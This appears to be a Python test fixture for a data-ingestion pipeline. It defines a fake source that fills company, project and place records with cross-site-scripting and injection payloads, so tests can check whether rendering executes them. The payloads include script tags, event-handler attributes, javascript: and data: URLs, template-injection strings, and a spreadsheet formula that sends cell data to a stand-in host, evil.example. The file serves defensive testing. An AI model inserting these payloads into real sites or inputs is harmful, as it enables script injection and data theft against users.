"""A source whose every text is a script for somebody: names, notes, quotes, addresses, places, licences."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import date
from decimal import Decimal
from typing import Final

from graph.node import Concept, Evidence, Iri, Money, Node, PartialDate, Ref, SourceCard, Text
from ingest.contract import Checkpoint, Extraction, Record, State

PAYLOADS: Final = (
    "<script>window.__ran=1</script>",
    "</script></title></textarea><script>window.__ran=2</script>",
    "<img src=x onerror=window.__ran=3>",
    '"><svg onload=window.__ran=4>',
    "javascript:window.__ran=5//",
    "{{constructor.constructor('window.__ran=6')()}}{@html '<img src=x onerror=window.__ran=6>'}${window.__ran=6}",
    "' autofocus onfocus=window.__ran=7 onmouseover=window.__ran=7 x=' \" onclick=\"window.__ran=7",
    "\\u003cimg src=x onerror=window.__ran=8\\u003e &lt;img src=x onerror=window.__ran=8&gt; &#60;svg onload=window.__ran=8&#62;",
    "<iframe srcdoc='<script>parent.__ran=9</script>'></iframe>",
    "＜script＞window.__ran=10＜/script＞ ≺img src=x onerror=window.__ran=10≻ <ſcript>window.__ran=10</ſcript>",
    '=HYPERLINK("http://evil.example/?"&A1,"Click") @SUM(1)',
    "]]><!--<a href='JaVaScRiPt:window.__ran=12'>x</a>--><math><a xlink:href=javascript:window.__ran=12>y</a></math>",
)
ADDRESSES: Final = (
    "javascript:window.__ran=21",
    "JaVaScRiPt:window.__ran=22",
    "data:text/html,window.__ran=23",
    " javascript:window.__ran=24",
    "vbscript:window.__ran=25",
)
CARD: Final = SourceCard(
    name="hostile",
    title={"sv": PAYLOADS[2], "en": PAYLOADS[0]},
    publisher=PAYLOADS[3],
    homepage=ADDRESSES[0],
    licence=PAYLOADS[1],
    licence_proof=ADDRESSES[1],
    refresh=PAYLOADS[10],
    min_records=0,
    max_drop=1.0,
    max_invalid=1.0,
    curated=True,
)


@dataclass
class Hostile:
    """One record for each payload: a company, a project, a place, a partnership, money and what joins them."""

    card: SourceCard = CARD

    def extract(self, task: Extraction, _state: State) -> Iterator[Record | Checkpoint]:
        """The payloads, by number."""
        task.expect(len(PAYLOADS))
        for number in range(len(PAYLOADS)):
            yield Record("payloads", number + 1, {"number": str(number)})
        yield Checkpoint({"data_date": "2026-11-26", "line": str(len(PAYLOADS))})

    def map(self, record: Record) -> Iterable[Node]:
        """Everything that can be said of a payload."""
        number = int(record.values["number"])
        yield from _things(number)
        yield from _relations(number)

    def reconcile(self, nodes: Sequence[Node]) -> Sequence[Node]:
        """Unchanged."""
        return nodes


def _proof(number: int) -> Evidence:
    text = PAYLOADS[number]
    proof = Evidence("https://example.org/'onmouseover='window.__ran=31", record=text, quote=Text(text, "en"))
    return replace(proof, published=PartialDate.parse("2020-05"), retrieved=date(2026, 11, 23))


def _named(node: Node, number: int) -> Node:
    """Names and descriptions in both languages, each another payload."""
    english, swedish = PAYLOADS[number], PAYLOADS[(number + 1) % len(PAYLOADS)]
    node.add("name", Text(f"{english} {number}", "en")).add("name", Text(f"{swedish} {number} sv", "sv"))
    return node


def _things(number: int) -> Iterator[Node]:
    text, proof = PAYLOADS[number], [_proof(number)]
    place = _named(Node(f"place/p{number}", "Place", proof), number)
    yield place.add("lat", Decimal("59.3")).add("long", Decimal(18 + number / 10)).add("countryCode", "SE")
    company = _named(Node(f"h{number}", "Company", proof), number)
    company.add("altName", text).add("acronym", text[:20]).add("description", Text(text, "en"))
    company.add("description", Text(text, "sv")).add("founded", PartialDate.parse(str(2000 + number)))
    yield company.add("homepage", Iri("https://example.org/'onmouseover='window.__ran=24"))
    if number < len(ADDRESSES):
        trap = _named(Node(f"trap{number}", "Company", proof), number)
        yield trap.add("homepage", Iri(ADDRESSES[number]))
    project = _named(Node(f"e{number}", "Project", proof), number)
    project.add("description", Text(text, "en")).add("start", PartialDate.parse("2020-05"))
    project.add("end", PartialDate.parse("2022")).add("topic", Concept("tech", "batteries"))
    yield project.add("totalCost", Money(Decimal(1_000), "SEK", 2020))


def _relations(number: int) -> Iterator[Node]:
    proof, after = [_proof(number)], (number + 1) % len(PAYLOADS)
    yield Node(f"rel/s{number}", "Site", proof).add("siteOf", Ref(f"h{number}")).add("place", Ref(f"place/p{number}"))
    activity = Node(f"rel/t{number}", "TechnologyActivity", proof).add("actor", Ref(f"h{number}"))
    yield activity.add("area", Concept("tech", "batteries"))
    for other, role in ((number, "coordinator"), (after, "partner")):
        part = Node(f"rel/a{number}-{other}", "Participation", proof).add("participant", Ref(f"h{other}"))
        part.add("inEffort", Ref(f"e{number}")).add("role", Concept("role", role))
        yield part.add("note", PAYLOADS[number])
    grant = Node(f"rel/g{number}", "Grant", proof).add("funder", Ref(f"h{after}"))
    grant.add("fundedEffort", Ref(f"e{number}")).add("amount", Money(Decimal(5_000), "EUR", 2020))
    yield grant.add("note", PAYLOADS[number])
    pair = Node(f"rel/n{number}", "Partnership", proof).add("party", Ref(f"h{number}")).add("party", Ref(f"h{after}"))
    yield pair.add("start", PartialDate.parse("2020")).add("note", PAYLOADS[number])
